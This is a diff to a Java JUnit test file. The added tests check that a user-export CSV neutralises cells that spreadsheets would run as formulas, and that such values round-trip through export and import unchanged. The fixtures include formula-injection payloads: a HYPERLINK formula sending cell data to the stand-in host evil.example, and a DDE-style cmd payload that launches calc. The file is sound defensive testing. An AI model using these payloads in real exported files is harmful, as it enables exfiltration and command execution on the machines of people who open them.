@@ -1,6 +1,8 @@
 package dev.offload.users;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import dev.offload.testing.OffloadNodeExtension;
 import dev.offload.testing.Tasks;
@@ -17,8 +19,8 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.RegisterExtension;
 
 /**
- * The CSV rules of users.import, through the API on a real node: a byte order mark, line breaks in
- * quoted fields, bytes that are not UTF-8.
+ * The CSV rules of users.import and users.export, through the API on a real node: a byte order
+ * mark, line breaks in quoted fields, bytes that are not UTF-8, cells that spreadsheets would run.
  */
 class UsersCsvTest {
 
@@ -77,6 +79,88 @@ class UsersCsvTest {
         "field 2 is not valid UTF-8 (byte 0xE9): save the file as UTF-8",
         result.getJsonArray("errors").getJsonObject(0).getString("reason"));
     assertEquals(Map.of("ann@example.com", "Ann", "bob@example.com", "Bob"), users());
+  }
+
+  @Test
+  void an_export_neutralises_every_cell_that_a_spreadsheet_would_run_as_a_formula()
+      throws Exception {
+    create("link@example.com", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")");
+    create("sum@example.com", "@SUM(1+1)*cmd|' /C calc'!A0");
+    create("plus@example.com", "+1");
+    create("minus@example.com", "-1");
+    create("-dash@example.com", "Dash");
+    // The API refuses control characters; rows from elsewhere (older data, SQL) may hold them.
+    offload.sql(
+        "INSERT INTO offload_user (email, name, created_at, updated_at) VALUES"
+            + " ('tab@example.com', E'\\t=1+2', now(), now()),"
+            + " ('cr@example.com', E'\\r=3+4', now(), now())");
+
+    String file = exportCsv();
+
+    assertTrue(
+        file.contains(",\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click\"\")\","), file);
+    assertTrue(file.contains(",'@SUM(1+1)*cmd|' /C calc'!A0,"), file);
+    assertTrue(file.contains(",'+1,"), file);
+    assertTrue(file.contains(",'-1,"), file);
+    assertTrue(file.contains(",'-dash@example.com,Dash,"), file);
+    assertTrue(file.contains(",'\t=1+2,"), file);
+    assertTrue(file.contains(",\"'\r=3+4\","), file);
+    for (CsvRecord record : CsvTesting.read(file.getBytes(StandardCharsets.UTF_8))) {
+      for (String cell : record.fields()) {
+        assertFalse(cell.matches("(?s)[=+\\-@\t\r].*"), "a cell a spreadsheet would run: " + cell);
+      }
+    }
+  }
+
+  @Test
+  void hostile_names_and_emails_survive_an_export_and_an_import_unchanged() throws Exception {
+    Map<String, String> hostile = new LinkedHashMap<>();
+    hostile.put("link@example.com", "=HYPERLINK(\"http://evil.example\",\"x\")");
+    hostile.put("sum@example.com", "@SUM(1+1)");
+    hostile.put("plus@example.com", "+1");
+    hostile.put("minus@example.com", "-1");
+    hostile.put("quoted@example.com", "'=already quoted");
+    hostile.put("quotes@example.com", "''+two quotes");
+    hostile.put("tis@example.com", "'Tis the season");
+    hostile.put("apostrophe@example.com", "'");
+    hostile.put("comma@example.com", "Doe, \"Jo\" 日本 😀");
+    hostile.put("-dash@example.com", "Dash");
+    hostile.put("'=quote@example.com", "Quote");
+    hostile.forEach(UsersCsvTest::create);
+
+    String file = exportCsv();
+    assertTrue(file.contains(",''=already quoted,"), file);
+    assertTrue(file.contains(",'Tis the season,"), file);
+    offload.sql("DELETE FROM offload_user");
+    JsonObject result = awaitFinal(upload(Buffer.buffer(file))).getJsonObject("result");
+
+    assertEquals(hostile.size(), result.getLong("imported"), result.encode());
+    assertEquals(hostile, users());
+  }
+
+  private static void create(String email, String name) {
+    HttpResponse<Buffer> response =
+        offload
+            .client()
+            .post("/users")
+            .sendJsonObject(new JsonObject().put("email", email).put("name", name))
+            .await();
+    assertEquals(201, response.statusCode(), response.bodyAsString());
+  }
+
+  private static String exportCsv() throws InterruptedException {
+    JsonObject done =
+        offload.await(
+            offload.submit(new JsonObject().put("kind", "users.export")),
+            Duration.ofSeconds(30),
+            Tasks.finished());
+    assertEquals("completed", done.getString("state"), done.encode());
+    return offload
+        .client()
+        .get("/tasks/" + done.getString("id") + "/result")
+        .send()
+        .await()
+        .bodyAsString();
   }
 
   /** Every user, email to name, from {@code GET /users}. */
